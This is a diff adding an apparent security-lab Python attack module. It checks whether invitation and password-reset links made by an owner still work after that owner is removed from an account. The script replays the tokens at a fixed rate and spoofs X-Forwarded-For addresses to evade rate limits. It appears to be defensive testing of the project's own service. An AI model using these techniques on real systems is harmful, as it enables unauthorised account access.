@@ -1,0 +1,93 @@
+"""An attack from inside: an owner who is removed comes back by links that they made before."""
+
+import re
+import secrets
+from ipaddress import IPv4Address
+from itertools import count, cycle
+from typing import Any, Final, NamedTuple
+
+import orjson
+
+from lab.abuse.attack import Report, Target, barrage
+from lab.abuse.person import PASSWORD, from_console
+from lab.requests import ask, call
+
+_RATE: Final = 20
+_FIRST_ADDRESS: Final = IPv4Address("198.18.0.0")
+_COOKIE: Final = re.compile(rb"\r\nset-cookie: ([^;\r]+)", re.IGNORECASE)
+
+
+class _Refused(Exception):
+    """A request that had to be answered with 200."""
+
+
+class _Person(NamedTuple):
+    """A member in a browser of their own."""
+
+    port: int
+    cookie: str
+
+    async def send(self, method: str, path: str, fields: dict[str, str] | None = None) -> Any:
+        """Return the decoded answer. Raises _Refused if it is an error."""
+        request = from_console(self.port, method, path, fields or {}, {"Cookie": self.cookie})
+        return _decoded(await ask(self.port, request))
+
+
+async def removed_owner(target: Target, seconds: float) -> Report:
+    """Make an invitation and a password reset as an owner whom another one then removes; use both
+    links for as long as visitors click."""
+    try:
+        tokens = await _tokens_of_removed_owner(target)
+    except _Refused as error:
+        return Report(findings=[f"the links were not made: {error}"])
+    links, number = cycle(tokens), count()
+
+    def use() -> bytes:
+        # A new address each time, so that no limit answers in place of the link.
+        client = {"X-Forwarded-For": str(_FIRST_ADDRESS + next(number))}
+        fields = {"token": next(links), "name": "Eve", "password": PASSWORD}
+        return from_console(target.port, "POST", "/api/join", fields, client)
+
+    return await barrage(target.port, use, _RATE, seconds, {"404"})
+
+
+async def _tokens_of_removed_owner(target: Target) -> list[str]:
+    """Return the tokens of the two links, once their maker is no longer a member."""
+    owner, other, viewer = [await _join(target, role) for role in ("owner", "owner", "viewer")]
+    body = {"accountId": target.attacker.account_id, "email": _email(), "role": "owner"}
+    path = f"/api/members/{await _member_id(target, viewer)}/password-reset"
+    made = [await owner.send("POST", "/api/invitations", body), await owner.send("POST", path)]
+    await other.send("DELETE", f"/api/members/{await _member_id(target, owner)}")
+    return [one["url"].partition("#")[2] for one in made]
+
+
+async def _join(target: Target, role: str) -> _Person:
+    """Return a new member of the attacker's account."""
+    body = {"accountId": target.attacker.account_id, "email": _email(), "role": role}
+    status, made = await call(target.port, target.attacker.key, "POST", "/api/invitations", body)
+    if status != "200":
+        raise _Refused(f"{status} {made}")
+    fields = {"token": made["url"].partition("#")[2], "name": "Ada", "password": PASSWORD}
+    answer = await ask(target.port, from_console(target.port, "POST", "/api/join", fields))
+    _decoded(answer)
+    cookie = _COOKIE.search(answer)
+    if cookie is None:
+        raise _Refused("joining sets no cookie")
+    return _Person(target.port, cookie[1].decode())
+
+
+async def _member_id(target: Target, person: _Person) -> str:
+    person_id = (await person.send("GET", "/api/session"))["person"]["id"]
+    listed = await person.send("GET", f"/api/members?accountId={target.attacker.account_id}")
+    [found] = [row["id"] for row in listed["rows"] if row["person_id"] == person_id]
+    return str(found)
+
+
+def _email() -> str:
+    return f"{secrets.token_hex(8)}@attacker.example"
+
+
+def _decoded(answer: bytes) -> Any:
+    if not answer.startswith(b"HTTP/1.1 200"):
+        raise _Refused(answer.partition(b"\r")[0].decode() or "no answer")
+    return orjson.loads(answer.partition(b"\r\n\r\n")[2])
